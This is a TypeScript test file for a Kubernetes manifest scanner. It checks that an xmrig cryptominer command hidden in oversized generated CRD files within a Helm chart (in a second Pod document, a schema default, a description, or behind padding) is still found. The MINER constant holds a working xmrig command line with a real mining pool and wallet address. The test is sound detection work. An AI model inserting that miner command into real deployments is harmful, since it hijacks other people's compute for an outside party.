import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import type { Finding } from '../../src/core/types.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { scanManifests } from '../../src/scan.js';
import { schemaEntriesOnce } from '../../src/sources/crd-schema-once.js';
import { SCAN_LIMITS } from '../../src/threat/scan-queue.js';

/**
 * A Helm chart's CRD templates, refused because helm is not installed, are searched as raw text.
 * A generated CRD (kserve's: 2 to 2.7 MB, one PodSpec schema repeated for every component) must
 * not be reported as "text not examined", and a miner anywhere in such a file (a second document,
 * a schema `default:`, a description, behind distinct padding) must still be found or reported.
 */

const root = mkdtempSync(join(tmpdir(), 'kfguard-crd-once-'));
after(() => rmSync(root, { recursive: true, force: true }));
/** A PATH without helm, so the chart is never rendered whatever the machine has installed. */
const NO_HELM = { ...process.env, PATH: join(root, 'no-bin') };

const MINER = 'xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

/** One container schema as controller-gen writes it (descriptions cut, as kserve's are), at `indent`. */
function containerSchema(indent: string, extra: readonly string[] = []): string[] {
  const fields = ['args', 'command'].flatMap((name) => [`${name}:`, '  items:', '    type: string', '  type: array', '  x-kubernetes-list-type: atomic']);
  for (const name of ['image', 'imagePullPolicy', 'name', 'workingDir', 'terminationMessagePath']) fields.push(`${name}:`, '  type: string');
  fields.push('env:', '  items:', '    properties:', '      name:', '        type: string', '      value:', '        type: string', '    required:', '    - name', '    type: object', '  type: array');
  fields.push('resources:', '  properties:', '    limits:', '      additionalProperties:', '        anyOf:', '        - type: integer', '        - type: string', '        pattern: ^(\\+|-)?(([0-9]+(\\.[0-9]*)?)|(\\.[0-9]+))$', '        x-kubernetes-int-or-string: true', '      type: object', '  type: object');
  return ['properties:', ...[...fields, ...extra].map((line) => `  ${line}`), 'type: object'].map((line) => `${indent}${line}`);
}

/**
 * A CRD of `components` properties, each holding a container schema, longer than the search cap.
 * `inComponent` adds lines to the container schema of component 700, past the first MiB.
 * `padding` replaces the components by as many distinct descriptions.
 */
function generatedCrd(options: { labels?: string; inComponent?: readonly string[]; padding?: boolean } = {}): string {
  const lines = [
    'apiVersion: apiextensions.k8s.io/v1',
    'kind: CustomResourceDefinition',
    'metadata:',
    '  annotations:',
    '    controller-gen.kubebuilder.io/version: v0.19.0',
    ...(options.labels ? [options.labels] : []),
    '  name: trainers.example.com',
    'spec:',
    '  group: example.com',
    '  names:',
    '    kind: Trainer',
    '    plural: trainers',
    '  scope: Namespaced',
    '  versions:',
    '  - name: v1',
    '    schema:',
    '      openAPIV3Schema:',
    '        properties:',
    '          spec:',
    '            properties:',
  ];
  let length = lines.join('\n').length;
  for (let i = 0; length < SCAN_LIMITS.maxTextChars + 16 * 1024; i++) {
    const added = options.padding
      ? [`              padding${i}:`, `                description: filler ${i} ${(i * 2654435761 % 4294967296).toString(36).repeat(8)}`]
      : [`              component${i}:`, ...containerSchema('                ', i === 700 ? (options.inComponent ?? []) : [])];
    lines.push(...added);
    length += added.join('\n').length + 1;
  }
  lines.push('            type: object', '        type: object', '    served: true', '    storage: true', '');
  return lines.join('\n');
}

const chart = (name: string, templates: Record<string, string>): string => {
  const path = join(root, name);
  mkdirSync(join(path, 'templates'), { recursive: true });
  writeFileSync(join(path, 'Chart.yaml'), `apiVersion: v2\nname: ${name}\nversion: 0.1.0\n`);
  for (const [file, text] of Object.entries(templates)) writeFileSync(join(path, 'templates', file), text);
  return path;
};

describe('CRD schema entries read once in refused text', () => {
  it('keeps every distinct entry and the text outside the schema, and shortens a generated CRD below the cap', () => {
    const text = generatedCrd({ inComponent: ['command:', `  default: ["sh", "-c", "${MINER}"]`] });
    assert.ok(text.length > SCAN_LIMITS.maxTextChars);
    const once = schemaEntriesOnce(text)!;
    assert.ok(once.text.length < 200 * 1024, `${once.text.length} characters`);
    assert.ok(once.kept < once.entries);
    assert.ok(once.text.startsWith('apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\n'));
    assert.ok(once.text.includes(MINER), 'the default is kept');
    assert.ok(once.text.includes('component799:') && once.text.endsWith('    served: true\n    storage: true\n'));
    const distinct = (s: string) => new Set(s.split('\n').map((line) => line.trim()));
    assert.deepEqual(distinct(once.text), distinct(text), 'no line is lost, only repeats');
  });

  it('leaves text alone that holds no CRD schema, or nothing repeated', () => {
    assert.equal(schemaEntriesOnce(`apiVersion: v1\nkind: ConfigMap\ndata:\n  a: ${'x'.repeat(100)}\n`), undefined);
    assert.equal(schemaEntriesOnce('kind: CustomResourceDefinition\nspec:\n  versions:\n  - schema:\n      openAPIV3Schema:\n        type: object\n'), undefined);
  });

  it('a chart it cannot render: a benign generated CRD passes, a miner anywhere in one is found or reported', async () => {
    const path = chart('crds', {
      'templated.yaml': generatedCrd({ labels: '  labels:\n    {{- include "chart.labels" . | nindent 4 }}' }),
      'pod-after.yaml': `${generatedCrd()}---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n  - name: c\n    image: alpine\n    command: ["sh", "-c", "${MINER}"]\n`,
      'in-default.yaml': generatedCrd({ inComponent: ['command:', `  default: ["sh", "-c", "${MINER}"]`] }),
      'in-description.yaml': generatedCrd({ inComponent: ['image:', `  description: ${MINER}`] }),
      // Padding made of distinct lines is as long after the repeats are left out: still over the cap.
      'distinct-padding.yaml': `${generatedCrd({ padding: true })}---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n  - name: c\n    image: alpine\n    command: ["sh", "-c", "${MINER}"]\n`,
    });
    const report = await scanManifests({ paths: [path], cwd: root, readStdin: () => Promise.resolve(Buffer.alloc(0)), env: NO_HELM, rules: ALL_RULES });
    assert.deepEqual(report.ruleErrors, []);
    const byFile = new Map<string, Finding>();
    for (const finding of report.findings.filter((f) => f.category === 'threat')) byFile.set(finding.location!.file.replace('crds/templates/', ''), finding);
    const show = [...byFile].map(([file, f]) => `${file}: ${f.severity} ${f.evidence.join(' | ').slice(0, 300)}`).join('\n');
    assert.deepEqual([...byFile.keys()].sort(), ['distinct-padding.yaml', 'in-default.yaml', 'in-description.yaml', 'pod-after.yaml'], show);
    for (const file of ['pod-after.yaml', 'in-default.yaml', 'in-description.yaml']) {
      const finding = byFile.get(file)!;
      assert.equal(finding.severity, 'critical', show);
      assert.ok(finding.evidence.some((e) => e.startsWith('CRD schema entries repeated word for word were searched once')), show);
      assert.ok(!finding.evidence.some((e) => e.includes('text not examined')), show);
    }
    const padded = byFile.get('distinct-padding.yaml')!;
    assert.ok(['high', 'critical'].includes(padded.severity), show);
    assert.ok(padded.evidence.some((e) => e.includes('text not examined')), show);
  });
});
